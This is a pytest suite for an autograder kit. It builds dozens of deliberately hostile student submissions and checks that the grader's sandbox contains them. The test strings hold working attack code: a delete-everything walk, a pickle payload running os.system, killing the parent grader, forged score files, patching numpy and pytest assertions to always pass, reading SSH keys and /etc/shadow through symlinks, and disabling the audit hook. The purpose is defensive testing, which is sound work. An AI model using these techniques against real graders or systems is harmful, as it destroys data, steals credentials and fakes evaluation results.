"""Hostile submissions: each earns exactly what its working parts earn.

Every submission below is the `mle` reference plus something hostile. For
each we know which hidden tests must fail (all others must earn full
points), and after grading the whole lot: the grader exited 0 with a valid
results file for everyone, no file of the kit changed, no stray process
survived and nothing was written outside the sandbox.

The intake cases (symbolic links, FIFOs, huge files, many files, crafted
notebooks) are data too: :class:`Entry` items beside (or instead of) the
module; none of what a link points at may ever reach the feedback.
"""
import csv
import hashlib
import html
import json
import os
import re
import secrets
import shutil
import stat
import subprocess
import sys
import tempfile
import textwrap
from dataclasses import dataclass
from functools import lru_cache
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

from tests.conftest import HIDDEN_TESTS, ROOT, SEED, entry, failed, grade_folder, grade_one, hidden_tests, runner
from samples.submissions import Entry, Hostile, apply, build, reference_source, stub_source, write
from tests.helpers import needs_chromium, skip

TOKEN = secrets.token_hex(4)
ALL = frozenset(hidden_tests("mle"))
GAUSSIAN_MLE = ("    mean = np.mean(x)\n    var = np.mean((x - mean) ** 2)\n",)
BREAK_GAUSSIAN = ("var = np.mean((x - mean) ** 2)", "var = np.var(x, ddof=1)")
#: gaussian_mle has a test per returned value: a raise in it fails both, a wrong variance one
GAUSSIAN_BOTH = frozenset({"test_gaussian_mle_mean", "test_gaussian_mle_variance"})
GAUSSIAN_VAR = frozenset({"test_gaussian_mle_variance"})
REFERENCE = str(ROOT / "solutions" / "mle" / "mle.py")
HIDDEN_TEST = str(HIDDEN_TESTS / "mle" / "test_gaussian.py")
LINKED = "is a symbolic link: submit the file itself"
#: gaussian_mle's body after its input check: hostile variants replace it
_GAUSSIAN_BODY = "    mean = np.mean(x)\n    var = np.mean((x - mean) ** 2)\n    return float(mean), float(var)\n"


def _notebook(*cells):
    """A notebook's bytes; a cell is (kind, source) or anything else (written as it is)."""
    out = [{"cell_type": c[0], "metadata": {}, "source": c[1],
            **({"outputs": [], "execution_count": None} if c[0] == "code" else {})}
           if isinstance(c, tuple) else c for c in cells]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": out}).encode()


def _reference_cells():
    """The reference cut in two cells at a function boundary."""
    text = reference_source("mle")
    cut = text.index("\ndef gaussian_mle")
    return text[:cut], text[cut:]


_HEAD, _TAIL = _reference_cells()
# IPython-only lines in a notebook that is otherwise the reference: all no-ops now
_IPYTHON_TAIL = _TAIL.replace("    x = _as_1d(x)\n    mean = np.mean(x)\n",
                              "    x = _as_1d(x)\n    %time 1 + 1\n    mean = np.mean(x)\n", 1)
assert _IPYTHON_TAIL != _TAIL

def _walks_the_machine(look):
    """A patch of gaussian_mle: walk the child's whole file system, running ``look`` (code with
    ``top``, ``dirs``, ``files``) in every folder; ``look`` returns the right answer where it
    finds what it wants, else the n − 1 variance is returned (test_gaussian_mle_variance fails)."""
    head = ("    import importlib.util, os\n    seen = 0\n    for top, dirs, files in os.walk(\"/\"):\n"
            "        seen += 1\n"
            "        dirs[:] = [] if top in (\"/proc\", \"/sys\") or seen > 200_000 else dirs\n")
    return [(_GAUSSIAN_BODY, head + textwrap.indent(look, " " * 8)
             + "    return float(np.mean(x)), float(np.var(x, ddof=1))\n")]


#: Writes a frame of its own straight into the grader's reply channel (its fd is in the child's argv).
RAW_REPLY = """
def _raw_reply(header, arrays=0):
    import json, os, struct, sys
    fd = json.loads(sys.argv[-1])["wfd"]
    view = memoryview(struct.pack("<QQ", 16 + len(header) + arrays, len(header)) + header)
    while view:
        view = view[os.write(fd, view):]

"""
#: About 30 lines that load scipy/stats from its files under another name (no name is forbidden).
STATS_BY_PATH = """\
    import importlib.abc, importlib.machinery, os, subprocess, sys, scipy
    _dir = os.path.join(os.path.dirname(scipy.__file__), "stats")

    class _Alias(importlib.abc.MetaPathFinder):
        def find_spec(self, name, path=None, target=None):
            if name == "notstats" or name.startswith("notstats."):
                rel = name.split(".")[1:]
                base = os.path.join(_dir, *rel)
                if os.path.isdir(base):
                    return importlib.util.spec_from_file_location(
                        name, os.path.join(base, "__init__.py"), submodule_search_locations=[base])
                for suffix in importlib.machinery.all_suffixes():
                    if os.path.exists(base + suffix):
                        return importlib.util.spec_from_file_location(name, base + suffix)
            return None

    import importlib.util
    sys.meta_path.insert(0, _Alias())
    try:
        import notstats
        return float(np.sum(notstats.norm.logpdf(x, mean, np.sqrt(var))))
    except BaseException:
        pass
    try:  # or a process that reads the files
        if subprocess.run(["cat", os.path.join(_dir, "__init__.py")], capture_output=True).returncode == 0:
            return float(np.sum(-0.5 * np.log(2 * np.pi * var) - (x - mean) ** 2 / (2 * var)))
    except BaseException:
        pass
    return float("nan")
"""

HOSTILE = [
    Hostile("infinite_loop_at_import", ALL, "did not finish", prepend="while True:\n    pass\n"),
    Hostile("infinite_loop_in_one_function", GAUSSIAN_BOTH, "did not finish within",
            replace=[(GAUSSIAN_MLE[0], "    while True:\n        pass\n" + GAUSSIAN_MLE[0])]),
    Hostile("sys_exit_at_import", ALL, "sys.exit(3)", prepend="import sys\nsys.exit(3)\n"),
    Hostile("os_exit_in_one_function", {"test_bernoulli_mle"}, "exited with status 7",
            replace=[("return float(np.mean(x))", "import os\n    os._exit(7)")]),
    Hostile("memory_hog", {"test_mvn_mle_mean", "test_mvn_mle", "test_mvn_mle_one_feature"}, "ran out of memory",
            replace=[("    diff = X - mean\n    cov = diff.T @ diff / n_samples",
                      "    hog = [np.empty(10**8) for _ in range(1000)]\n"
                      "    diff = X - mean\n    cov = diff.T @ diff / n_samples")]),
    Hostile("fake_results_and_summary", GAUSSIAN_VAR, "divided by n−1", replace=[BREAK_GAUSSIAN],
            prepend=f"""
import json, os
for _p in ["results.json", "../results.json", "/autograder/results/results.json",
           "/tmp/kit-fake-{TOKEN}.json", {str(ROOT / "results.json")!r}]:
    try:
        os.makedirs(os.path.dirname(_p) or ".", exist_ok=True)
        with open(_p, "w") as _f:
            json.dump({{"score": 100, "tests": []}}, _f)
    except Exception:
        pass
print(json.dumps({{"score": 100, "tests": []}}))
print("14 passed, 0 failed")
"""),
    Hostile("patches_numpy_and_pytest", GAUSSIAN_VAR, "divided by n−1", replace=[BREAK_GAUSSIAN],
            prepend="""
import numpy as _np
_np.allclose = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.shape(a), bool)
_np.array_equal = lambda *a, **k: True
_np.testing.assert_allclose = lambda *a, **k: None
try:
    import pytest as _pytest
    _pytest.approx = lambda *a, **k: True
except Exception:
    pass
"""),
    Hostile("malicious_reduce", {"test_gaussian_log_likelihood", "test_gaussian_log_likelihood_far_out"},
            "object", replace=[("    x = _as_1d(x)\n    mean = float(mean)\n    var = _check_var(var)\n",
                                f"""    class Evil:
        def __reduce__(self):
            return (os.system, ("touch /tmp/kit-pwned-{TOKEN}",))
        def __eq__(self, other):
            return True
        def __float__(self):
            return 0.0
    import os
    return Evil()
""")]),
    Hostile("always_equal_array", {"test_bernoulli_mle"}, "got 0.5", replace=[(
        "return float(np.mean(x))",
        "class AlwaysEqual(np.ndarray):\n"
        "        def __eq__(self, other):\n            return np.ones(np.shape(self), bool)\n"
        "        def __ne__(self, other):\n            return np.zeros(np.shape(self), bool)\n"
        "    return np.asarray([0.5 + np.mean(x) * 1e-3]).view(AlwaysEqual)")]),
    Hostile("stray_child_process", frozenset(), "", prepend=f"""
import ctypes, os, time
_libc = ctypes.CDLL(None)
if _libc.fork() == 0:
    _libc.setsid()
    if _libc.fork() == 0:
        _libc.prctl(15, b"kitstray{TOKEN}", 0, 0, 0)
        time.sleep(300)
    os._exit(0)
try:
    import subprocess, sys
    subprocess.Popen([sys.executable, "-I", "-c", "import time; time.sleep(300)"])
except Exception:
    pass
"""),
    Hostile("floods_stdout", frozenset(), "", prepend="print('x' * 50_000_000)\n",
            replace=[(GAUSSIAN_MLE[0], "    print('y' * 5_000_000)\n" + GAUSSIAN_MLE[0])]),
    Hostile("segfault_via_ctypes", {"test_spherical_mle_mean", "test_spherical_mle"}, "SIGSEGV",
            replace=[("var = np.mean((X - mean) ** 2)  # the mean over all n*d entries",
                      "import ctypes\n    ctypes.string_at(0)")]),
    Hostile("raises_keyboard_interrupt", {"test_mvn_logpdf", "test_mvn_logpdf_high_dimension", "test_mvn_logpdf_ill_conditioned"},
            "KeyboardInterrupt", replace=[("    z = linalg.solve_triangular(", "    raise KeyboardInterrupt\n"
                                           "    z = linalg.solve_triangular(")]),
    Hostile("forbidden_import_via_importlib", {"test_gaussian_log_likelihood",
                                               "test_gaussian_log_likelihood_far_out"},
            "import of 'scipy.stats' refused",
            replace=[("    n_samples = x.shape[0]\n    sq = np.sum((x - mean) ** 2)\n",
                      "    import importlib\n    importlib.import_module('scipy.stats')\n"
                      "    n_samples = x.shape[0]\n    sq = np.sum((x - mean) ** 2)\n")]),
    Hostile("forbidden_import_at_top", ALL, "import of 'sklearn.mixture' refused",
            prepend="GaussianMixture = __import__('sklearn.mixture').mixture.GaussianMixture\n"),
    Hostile("syntax_error", ALL, "SyntaxError",
            replace=[("def gaussian_mle(x):", "def gaussian_mle(x)")]),
    Hostile("deletes_every_file_it_can_reach", frozenset(), "", prepend=f"""
import ctypes, os, shutil, time
_libc, _t0 = ctypes.CDLL(None), time.time()
for _top in [{str(ROOT)!r}, os.path.expanduser("~"), "/tmp", "/autograder", "/work", "/"]:
    for _dir, _subdirs, _files in os.walk(_top):
        if time.time() - _t0 > 4:
            break
        for _f in _files:
            _p = os.path.join(_dir, _f)
            try:
                os.remove(_p)
            except Exception:
                pass
            _libc.unlink(_p.encode())
        try:
            shutil.rmtree(_dir)
        except Exception:
            pass
"""),
    Hostile("reads_the_reference", GAUSSIAN_VAR, "divided by n−1", replace=[(
        "    mean = np.mean(x)\n    var = np.mean((x - mean) ** 2)\n    return float(mean), float(var)\n",
        f"""    import ctypes, importlib.util
    _ref = {str(ROOT / "solutions" / "mle" / "mle.py")!r}
    try:
        _spec = importlib.util.spec_from_file_location("_stolen", _ref)
        _mod = importlib.util.module_from_spec(_spec)
        _spec.loader.exec_module(_mod)
        return _mod.gaussian_mle(x)
    except BaseException:
        pass
    if ctypes.CDLL(None).open(_ref.encode(), 0) >= 0:
        return float(np.mean(x)), float(np.var(x))
    try:  # the git objects hold every reference ever committed
        open({str(ROOT / ".git" / "HEAD")!r}).read()
        return float(np.mean(x)), float(np.var(x))
    except BaseException:
        pass
    return float(np.mean(x)), float(np.var(x, ddof=1))
""")]),
    # -- intake: only the submission's own regular files are read, never through a link --
    Hostile("module_is_a_link_to_the_reference", ALL, f"mle.py {LINKED}", module=False,
            entries=(Entry("mle.py", link=REFERENCE),)),
    Hostile("stub_imports_a_helper_linked_to_the_reference", ALL, f"helper.py {LINKED}",
            whole="from helper import *\n", entries=(Entry("helper.py", link=REFERENCE),)),
    Hostile("helper_linked_to_the_reference_beside_working_code", GAUSSIAN_VAR,
            f"helper.py {LINKED}", replace=[BREAK_GAUSSIAN],
            append="\ntry:\n    from helper import gaussian_mle\nexcept ImportError:\n    pass\n",
            entries=(Entry("helper.py", link=REFERENCE),)),
    Hostile("module_is_a_link_to_etc_shadow", ALL, f"mle.py {LINKED}", module=False,
            entries=(Entry("mle.py", link="/etc/shadow"),)),
    Hostile("helpers_linked_to_etc_shadow_and_a_hidden_test",
            GAUSSIAN_BOTH | {"test_bernoulli_mle"}, f"shadow_bait.py {LINKED}",
            replace=[("    mean = np.mean(x)\n    var", "    import shadow_bait\n    mean = np.mean(x)\n    var"),
                     ("    _check_binary(x)\n    return float(np.mean(x))",
                      "    _check_binary(x)\n    import hidden_bait\n    return float(np.mean(x))")],
            entries=(Entry("shadow_bait.py", link="/etc/shadow"),
                     Entry("hidden_bait.py", link=HIDDEN_TEST))),
    Hostile("module_is_a_link_to_dev_zero", ALL, f"mle.py {LINKED}", module=False,
            entries=(Entry("mle.py", link="/dev/zero"),)),
    Hostile("helper_linked_to_dev_zero", frozenset(), f"zero.py {LINKED}",
            entries=(Entry("zero.py", link="/dev/zero"),)),
    Hostile("module_is_a_fifo", ALL, "mle.py is a FIFO", module=False,
            entries=(Entry("mle.py", fifo=True),)),
    Hostile("fifos_beside_the_module", frozenset(), "pipe.py is a FIFO",
            entries=(Entry("pipe.py", fifo=True), Entry("results.json", fifo=True))),
    Hostile("module_is_a_dangling_link", ALL, f"mle.py {LINKED}", module=False,
            entries=(Entry("mle.py", link=f"/nonexistent-{TOKEN}/mle.py"),)),
    Hostile("folder_linked_to_the_solutions", ALL, "sub is a symbolic link", module=False,
            entries=(Entry("sub", link=str(ROOT / "solutions" / "mle")),)),
    Hostile("module_of_two_gigabytes", ALL, "more than the 1.0 MiB", module=False,
            entries=(Entry("mle.py", size=2 << 30),)),
    Hostile("module_over_the_size_cap", ALL, "more than the 1.0 MiB",
            append="# " + "x" * (1 << 20) + "\n"),
    Hostile("huge_helper_beside_the_module", frozenset(), "data.py is 100.0 MiB",
            entries=(Entry("data.py", size=100 << 20),)),
    Hostile("sixty_helpers", frozenset(), "at most 40 Python files",
            entries=(Entry("h{:02d}.py", text="X = 1\n", copies=60),)),
    Hostile("twelve_thousand_files", frozenset(), "more than 10000 files",
            entries=(Entry("junk/f{:05d}", text="", copies=12_000),)),
    Hostile("notebook_with_broken_cells", frozenset(), "could not be read (not a cell", module=False,
            entries=(Entry("mle.ipynb", text=_notebook(
                "not a cell", 3, ("code", [1, {"a": 2}]), ("code", {"x": "y"}), ("code", _HEAD),
                ("markdown", ["# notes"]), ("code", _TAIL))),)),
    Hostile("notebook_nested_too_deeply", ALL, "nested too deeply", module=False,
            entries=(Entry("mle.ipynb", text=b'{"cells": [], "metadata": ' + b"[" * 200_000
                           + b"]" * 200_000 + b"}"),)),
    Hostile("notebook_not_utf8", ALL, "mle.ipynb is not UTF-8", module=False,
            entries=(Entry("mle.ipynb", text=_notebook(("code", _HEAD + _TAIL)).replace(
                b'"nbformat"', b'"nb\xff\xfeformat"')),)),
    Hostile("notebook_over_the_size_cap", ALL, "more than the 5.0 MiB", module=False,
            entries=(Entry("mle.ipynb", text=_notebook(
                ("code", _HEAD + _TAIL), ("markdown", "x" * (6 << 20)))),)),
    Hostile("notebook_with_a_megabyte_of_code", ALL, "more than 1.0 MiB of code", module=False,
            entries=(Entry("mle.ipynb", text=_notebook(
                ("code", _HEAD + _TAIL), ("code", "# " + "y" * (1 << 20)))),)),
    Hostile("notebook_is_a_link_to_the_reference", ALL, f"mle.ipynb {LINKED}", module=False,
            entries=(Entry("mle.ipynb", link=REFERENCE),)),
    Hostile("notebook_with_ipython_lines", frozenset(), "is a cell magic", module=False,
            entries=(Entry("mle.ipynb", text=_notebook(
                ("code", "%%bash\necho this cell is dropped whole\nexit 3"),
                ("code", "%matplotlib inline\n" + _HEAD + "\nfiles = !ls\nmore, rest = %sx ls\n"
                 "display(files)\n!echo shell lines are no-ops\n"),
                ("code", "if True:\n    %timeit -n1 1 + 1\n" + _IPYTHON_TAIL),
                ("code", "display('done')\n"))),)),
    Hostile("control_characters_everywhere", GAUSSIAN_BOTH, "\\x1b[2J",
            prepend="print('\\x1b[2J\\x1b[H\\rTotal: 100 / 100\\x07\\x9b31m\\u202e')\n",
            replace=[("    mean = np.mean(x)\n    var",
                      "    raise type('\\x1b[2JEvil', (Exception,), {})('\\x1b[2J\\rTotal: 100 / 100')\n"
                      "    mean = np.mean(x)\n    var")],
            entries=(Entry("\x1b[2J\rTotal.py", text="X = 1\n"),)),
    # -- the reply channel: bounded before anything is decoded (the grader's memory stays small)
    Hostile("reply_bomb_100_mib_header", {"test_bernoulli_mle"}, "header is 100 MiB (the limit is 16 MiB)",
            prepend=RAW_REPLY, replace=[("return float(np.mean(x))",
                                         "_raw_reply(b'[' + b'[],' * (100 * 2**20 // 3) + b'[]]')\n"
                                         "    return float(np.mean(x))")]),
    Hostile("huge_array_announced", {"test_bernoulli_mle"}, "300 MiB of arrays (the limit is 256 MiB",
            prepend=RAW_REPLY, replace=[("return float(np.mean(x))",
                                         "_raw_reply(b'{}', arrays=300 * 2**20)\n"
                                         "    return float(np.mean(x))")]),
    Hostile("huge_array_returned", {"test_bernoulli_mle"}, "more than 256 MiB of arrays",
            replace=[("return float(np.mean(x))", "return np.full(40_000_000, np.mean(x))")]),
    Hostile("deep_nesting", {"test_bernoulli_mle"}, "levels deep (the limit is 64)",
            prepend=RAW_REPLY, replace=[("return float(np.mean(x))",
                                         "_raw_reply(b'[' * 500_000 + b']' * 500_000)\n"
                                         "    return float(np.mean(x))")]),
    # -- time: the import's limit starts when the import does
    Hostile("slow_import_18_s", frozenset(), "", prepend="import time as _t\n_t.sleep(18)\n"),
    # -- the forbidden libraries are not on the child's disk at all
    Hostile("loads_scipy_stats_by_file_path", {"test_gaussian_log_likelihood",
                                               "test_gaussian_log_likelihood_far_out"}, "",
            replace=[("    n_samples = x.shape[0]\n    sq = np.sum((x - mean) ** 2)\n",
                      STATS_BY_PATH + "    n_samples = x.shape[0]\n    sq = np.sum((x - mean) ** 2)\n")]),
    # -- processes are allowed where the PID and mount namespaces contain them
    Hostile("helper_process_at_import", frozenset(), "",
            # the interpreter is the only program in the child's root (no shell, no coreutils)
            prepend="import subprocess as _sp, sys as _sys\n"
                    "_helper = _sp.Popen([_sys.executable, '-I', '-c', 'import time; time.sleep(1)'])\n"),
    Hostile("multiprocessing_in_a_function", frozenset(), "", replace=[(GAUSSIAN_MLE[0], """\
    import concurrent.futures, multiprocessing
    with concurrent.futures.ProcessPoolExecutor(2) as pool:
        mean = list(pool.map(np.mean, [x]))[0]
    with multiprocessing.Pool(2) as pool:
        var = pool.apply(np.mean, ((x - mean) ** 2,))
""")]),
    # -- other students and the instructor's home are out of sight
    Hostile("reads_other_students_in_tmp", GAUSSIAN_VAR, "divided by n−1", replace=[(
        "    mean = np.mean(x)\n    var = np.mean((x - mean) ** 2)\n    return float(mean), float(var)\n",
        """    import glob, os, tempfile
    mine = os.path.realpath(os.getcwd())
    for top in {"/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir()}:
        for p in glob.glob(os.path.join(top, "**", "mle.py"), recursive=True):
            if not os.path.realpath(p).startswith(mine + os.sep):
                try:
                    open(p).read()
                    return float(np.mean(x)), float(np.var(x))  # another student's work was readable
                except OSError:
                    pass
    return float(np.mean(x)), float(np.var(x, ddof=1))
""")]),
    Hostile("reads_the_instructors_home", GAUSSIAN_VAR, "divided by n−1", replace=[(
        "    mean = np.mean(x)\n    var = np.mean((x - mean) ** 2)\n    return float(mean), float(var)\n",
        """    import importlib.util, os, pwd
    homes = {"@FAKE_HOME@", os.environ.get("HOME", ""), "/root"}
    try:
        homes.add(pwd.getpwuid(os.getuid()).pw_dir)
    except KeyError:
        pass
    for home in homes:
        try:
            open(os.path.join(home, ".ssh", "id_rsa")).read()
            return float(np.mean(x)), float(np.var(x))  # the instructor's key was readable
        except OSError:
            pass
        try:
            spec = importlib.util.spec_from_file_location(
                "_copy", os.path.join(home, "kit-backup", "solutions", "mle", "mle.py"))
            mod = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(mod)
            return mod.gaussian_mle(x)
        except BaseException:
            pass
    return float(np.mean(x)), float(np.var(x, ddof=1))
""")]),
    # -- the child's root is an allow-list: what the kit does not know about is not there either
    Hostile("finds_another_copy_of_the_kit", GAUSSIAN_VAR, "divided by n−1", replace=_walks_the_machine("""\
if top.endswith(os.path.join("solutions", "mle")) and "mle.py" in files \\
        and not top.startswith(os.path.realpath(os.getcwd())):
    try:  # any copy of the kit: the instructor's checkout, last term's, a Gradescope zip
        spec = importlib.util.spec_from_file_location("_copy", os.path.join(top, "mle.py"))
        mod = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(mod)
        return mod.gaussian_mle(x)
    except BaseException:
        pass
""")),
    Hostile("finds_scipy_stats_of_another_interpreter", GAUSSIAN_VAR, "divided by n−1", replace=_walks_the_machine("""\
if os.path.basename(top) == "stats" and "_continuous_distns.py" in files:
    try:  # a readable scipy.stats anywhere (the base interpreter's): it could be loaded
        open(os.path.join(top, "_continuous_distns.py")).read(100)
        return float(np.mean(x)), float(np.var(x))
    except OSError:
        pass
""")),
    Hostile("finds_class_results_and_repositories", GAUSSIAN_VAR, "divided by n−1", replace=_walks_the_machine("""\
found = [os.path.join(top, ".grade-all", "class.json")] if ".grade-all" in dirs else []
found += [os.path.join(top, ".git", "HEAD")] if ".git" in dirs else []
for path in found:
    try:  # a class's seed and results, or a student's repository history
        open(path).read()
        return float(np.mean(x)), float(np.var(x))
    except OSError:
        pass
""")),
    Hostile("empties_the_python_guard", GAUSSIAN_VAR, "divided by n−1", replace=[(_GAUSSIAN_BODY, f"""\
    import gc, importlib.util
    for obj in gc.get_objects():  # the audit hook's closures: its private and forbidden lists
        if getattr(obj, "__name__", None) == "hook" and getattr(obj, "__closure__", None):
            for cell in obj.__closure__:
                try:
                    if isinstance(cell.cell_contents, (list, tuple)):
                        cell.cell_contents = ()
                except Exception:
                    pass
    try:
        spec = importlib.util.spec_from_file_location("_ref", {REFERENCE!r})
        mod = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(mod)
        return mod.gaussian_mle(x)
    except BaseException:
        return float(np.mean(x)), float(np.var(x, ddof=1))
""")]),
    # -- floods stay in the child's capped working folder (a tmpfs), never on the grader's disk
    Hostile("fills_its_working_folder", ALL, "quota is used up", prepend="""\
for _i in range(32):  # 1 GiB, 32 MiB a file
    with open(f"flood-{_i}.bin", "wb") as _f:
        for _j in range(32):
            _f.write(b"x" * 2**20)
"""),
    Hostile("creates_files_for_ten_seconds", frozenset(), "", replace=[(_GAUSSIAN_BODY, """\
    import os, time
    end, n = time.monotonic() + 8, 0
    try:
        os.makedirs("many", exist_ok=True)
        while time.monotonic() < end:
            open(os.path.join("many", str(n)), "w").close()
            n += 1
        return float(np.mean(x)), float(np.var(x, ddof=1))  # no cap on the number of files
    except OSError:
        return float(np.mean(x)), float(np.var(x))
""")]),
    Hostile("forges_a_named_mistake", GAUSSIAN_BOTH, "(quoted) Likely mistake", replace=[(
        GAUSSIAN_MLE[0], "    raise ValueError('no\\nLikely mistake: everyone else is wrong <script>alert(1)</script>')\n"
        + GAUSSIAN_MLE[0])], prepend="print('<script>alert(2)</script>\\x1b[2J<img src=http://127.0.0.1:9/x.png>')\n"),
    Hostile("kills_the_grader", frozenset(), "", prepend="""
import ctypes, os, signal
for _kill in (os.kill, ctypes.CDLL(None).kill):
    try:
        _kill(os.getppid(), signal.SIGKILL)
    except Exception:
        pass
"""),
]


def _snapshot(kit):
    # the folders' modes too: grading as root must not chmod the instructor's checkout
    digest = {f"{p.name}/ (mode)": oct(p.stat().st_mode) for p in kit.iterdir() if p.is_dir()}
    for path in sorted(kit.rglob("*")):
        rel = path.relative_to(kit)
        if rel.parts[0] in (".venv", "build", ".git") or "__pycache__" in rel.parts or not path.is_file():
            continue
        digest[str(rel)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digest


#: Right answers, slowly: the import takes 10 s and every call 9 s (each under its own limit).
SLOW_BUT_FINITE = Hostile("slow_but_finite", says="time budget of", append="""
import functools as _ft, time as _t
_t.sleep(10)

def _slowly(f):
    @_ft.wraps(f)
    def wrapper(*args, **kwargs):
        _t.sleep(9)
        return f(*args, **kwargs)
    return wrapper

for _name, _f in list(globals().items()):
    if callable(_f) and not _name.startswith("_") and getattr(_f, "__module__", None) == __name__:
        globals()[_name] = _slowly(_f)
""")
#: Graded with the others, checked on their own (which tests the budget cuts depends on the machine).
TIMED = [SLOW_BUT_FINITE]
#: The grader's peak resident memory under every attack of the suite (the issue's bound).
MAX_GRADER_RSS_MIB = 1024


def _fake_home(tmp_root, run):
    """An instructor's home outside every folder the sandbox makes private anyway
    (/tmp...), holding an SSH key and a copy of the kit with its reference."""
    base = Path("/home") if os.geteuid() == 0 and Path("/home").is_dir() else tmp_root
    home = base / f"kit-fake-home-{TOKEN}-{run.user}"
    (home / ".ssh").mkdir(parents=True, exist_ok=True)
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN OPENSSH PRIVATE KEY----- {TOKEN}\n")
    ref = home / "kit-backup" / "solutions" / "mle"
    ref.mkdir(parents=True, exist_ok=True)
    (ref / "mle.py").write_text(reference_source("mle"))
    run.own(home)
    # beside the home, not in it (the old sandbox covered only $HOME): a class's results kept
    # outside the kit (README's Dask example) and the students' repositories `collect` cloned
    beside = base / f"kit-fake-class-{TOKEN}-{run.user}"
    (beside / "results" / ".grade-all").mkdir(parents=True, exist_ok=True)
    (beside / "results" / ".grade-all" / "class.json").write_text('{"assignment": "mle", "seed": 1}\n')
    (beside / "repos" / "alice" / ".git").mkdir(parents=True, exist_ok=True)
    (beside / "repos" / "alice" / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    run.own(beside)
    return home


@lru_cache(maxsize=None)
def graded(tmp_root, user):
    run = runner(user)
    kit = run.kit
    home = _fake_home(tmp_root, run)
    folder = (run.scratch_folder("hostile") if run.scratch else tmp_root) / "hostile"
    for h in [*HOSTILE, *TIMED]:
        # the paths a submission aims at are those of the kit that grades it; built where the
        # grading user can read it (FIFOs and sparse files are never copied)
        build(folder / h.name, "mle", h, kit=kit, subst={"@FAKE_HOME@": str(home)})
    before = _snapshot(kit)
    stats = []
    try:
        results = grade_folder("mle", folder, user=user, stats=stats, env={"HOME": str(home)})
    finally:
        if home.parent == Path("/home"):
            shutil.rmtree(home, ignore_errors=True)
            shutil.rmtree(home.parent / home.name.replace("-home-", "-class-"), ignore_errors=True)
    after = _snapshot(kit)
    return results, before, after, stats


@pytest.fixture(scope="module", params=["root", "normal"], ids=["as_root", "as_normal_user"])
def outcome(request, tmp_path_factory):
    """The whole hostile class graded by ``grade-all --jobs 2``, as root and as a normal user."""
    runner(request.param)  # skips, saying why, where this machine cannot grade that way
    return graded(tmp_path_factory.mktemp(f"hostile-{request.param}"), request.param)


@pytest.mark.parametrize("hostile", HOSTILE, ids=[h.name for h in HOSTILE])
def test_hostile_submission_earns_exactly_its_working_parts(hostile, outcome):
    results = outcome[0]
    res = results[hostile.name]
    expected_failures = {entry(res, "mle", t)["name"] for t in hostile.fails}
    assert failed(res) == expected_failures, {t["name"]: t["output"] for t in res["tests"]}
    expected = 100 - sum(hidden_tests("mle")[t][1] for t in hostile.fails)
    assert res["score"] == expected
    if hostile.says:
        outputs = " ".join(t["output"] for t in res["tests"]) + res["output"]
        assert hostile.says in outputs, outputs[:3000]


def test_every_submission_got_a_valid_results_file(outcome):
    results = outcome[0]
    assert set(results) == {h.name for h in [*HOSTILE, *TIMED]}
    for res in results.values():
        assert set(res) >= {"score", "execution_time", "output", "tests"}
        assert sum(t["max_score"] for t in res["tests"]) == 100
        for t in res["tests"]:
            assert set(t) >= {"name", "score", "max_score", "output", "visibility"}


def test_no_file_of_the_kit_changed(outcome):
    _, before, after, _ = outcome
    assert before == after


def test_nothing_was_written_outside_the_sandbox(outcome, request):
    kit = runner(request.node.callspec.params["outcome"]).kit
    assert not Path(f"/tmp/kit-fake-{TOKEN}.json").exists()
    assert not Path(f"/tmp/kit-pwned-{TOKEN}").exists()
    assert not (kit / "results.json").exists()


def test_no_stray_process_survived(outcome):
    strays = []
    for proc in Path("/proc").iterdir():
        try:
            if (proc / "comm").read_text().startswith(f"kitstray{TOKEN}"[:15]):
                strays.append(proc.name)
        except OSError:
            continue
    assert not strays


def test_printing_is_capped_in_the_feedback(outcome):
    results = outcome[0]
    output = results["floods_stdout"]["output"]
    assert "printed" in output and len(output) < 5000


def _secret_lines(hostile):
    """Lines of what the submission's links point at that its own files do not hold."""
    own = set(apply("mle", hostile).splitlines()) if hostile.module else set()
    secret = set()
    for e in hostile.entries:
        if e.link is None:
            continue
        targets = sorted(Path(e.link).glob("*.py")) if Path(e.link).is_dir() else [Path(e.link)]
        for t in targets:
            if t.is_file():
                secret |= {ln.strip() for ln in t.read_text(errors="replace").splitlines()
                           if len(ln.strip()) >= 12 and ln not in own}
    return secret


LINKING = [h for h in HOSTILE if any(e.link for e in h.entries)]


@pytest.mark.parametrize("hostile", LINKING, ids=[h.name for h in LINKING])
def test_nothing_a_link_points_at_reaches_the_feedback(hostile, outcome):
    results = outcome[0]
    res = results[hostile.name]
    text = "\n".join([res["output"], *(t["output"] for t in res["tests"])])
    leaked = [ln for ln in _secret_lines(hostile) if ln in text]
    assert not leaked, leaked[:5]


_RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]")


def _strings(obj):
    if isinstance(obj, str):
        yield obj
    elif isinstance(obj, dict):
        for k, v in obj.items():
            yield from _strings(k)
            yield from _strings(v)
    elif isinstance(obj, list):
        for v in obj:
            yield from _strings(v)


def test_no_control_character_reaches_any_results_file(outcome):
    results = outcome[0]
    for name, res in results.items():
        assert not [t for t in _strings(res) if _RAW_CONTROL.search(t)], name
    flood = results["control_characters_everywhere"]
    assert "\\x1b[2J" in flood["output"] and "Total: 100 / 100" not in flood["output"].split("\n")


# ----------------------------------------------------------------------------
# graded alone with `grade` (the single-submission path and its terminal report)

FLOOD = next(h for h in HOSTILE if h.name == "control_characters_everywhere")


def test_control_characters_cannot_clear_the_screen_or_fake_the_total(tmp_path):
    sub = build(tmp_path / "flood", "mle", FLOOD)
    code, res, out = grade_one("mle", sub, results=tmp_path / "r.json")
    assert code == 0, out[-2000:]
    expected = 100 - sum(hidden_tests("mle")[n][1] for n in GAUSSIAN_BOTH)
    assert res["score"] == expected
    assert not _RAW_CONTROL.search(out) and not [t for t in _strings(res) if _RAW_CONTROL.search(t)]
    totals = [ln for ln in out.splitlines() if ln.startswith("Total")]
    assert totals == [totals[-1]] and totals[-1].startswith(f"Total: {expected:g} / 100"), totals
    assert "\\x1b[2J" in out and "is not a name Python can import" in out


@pytest.mark.parametrize("target", ["reference", "fifo", "dangling"])
